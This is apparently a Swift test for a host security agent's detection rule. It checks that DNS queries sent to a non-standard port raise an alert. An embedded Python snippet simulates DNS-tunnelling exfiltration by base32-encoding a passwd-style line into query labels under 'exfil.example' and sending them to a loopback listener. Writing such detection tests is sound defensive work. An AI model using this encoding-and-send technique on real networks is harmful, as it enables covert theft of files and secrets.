import Foundation
import Glibc
import MamoriAgent
import Testing

/// DNS on the packet path whatever the port: queries carrying base32 chunks of a file sent with
/// sendto to a loopback listener on a high port (no resolver, not port 53) become `dns` events
/// and raise the pack's non-standard-port rule; a datagram that is not DNS-shaped does not.
@Suite("DNS to a non-standard port", .serialized,
       .enabled(if: geteuid() == 0 || ProcessInfo.processInfo.environment["CI"] == "true"))
struct DNSNonstandardPortAgentTests {
    @Test("encoded DNS queries to a loopback high port are alerted")
    func encodedQueriesToAHighPortAreAlerted() throws {
        let dir = try TestAgent.scratch("dnsport")
        defer { try? FileManager.default.removeItem(atPath: dir) }
        try FileManager.default.copyItem(atPath: TestAgent.packRule("exfiltration/dns-query-to-nonstandard-port.yml"),
                                         toPath: dir + "/rules/dnsport.yml")
        let agent = try TestAgent(directory: dir, configuration: TestAgent.configuration(directory: dir, store: false))
        defer { agent.stop() }
        let port = 40_000 + Int(getpid() % 20_000)
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        p.arguments = ["-c", """
            import base64, socket, struct
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(b"not a dns message, just bytes", ("127.0.0.1", \(port + 1)))
            data = base64.b32encode(b"root:x:0:0:root:/root:/bin/bash").decode().strip("=").lower()
            for i in range(0, len(data), 30):
                labels = [data[i:i+30], "exfil", "example"]
                q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\\0" + struct.pack(">HH", 16, 1)
                s.sendto(q, ("127.0.0.1", \(port)))
            """]
        try p.run()
        p.waitUntilExit()
        #expect(p.terminationStatus == 0)
        let title = "DNS query with an encoded-looking name sent to a non-standard port"
        let lines = agent.waitForAlerts(seconds: 20) { $0.contains { $0.contains(title) } }
        let mine = lines.filter { $0.contains(title) }
        #expect(mine.contains { $0.contains("exfil.example") && $0.contains("\"port\":\(port)") }, "no alert: \(lines)")
        #expect(!lines.contains { $0.contains("\"port\":\(port + 1)") }, "a non-DNS datagram must not be taken for DNS")
    }
}
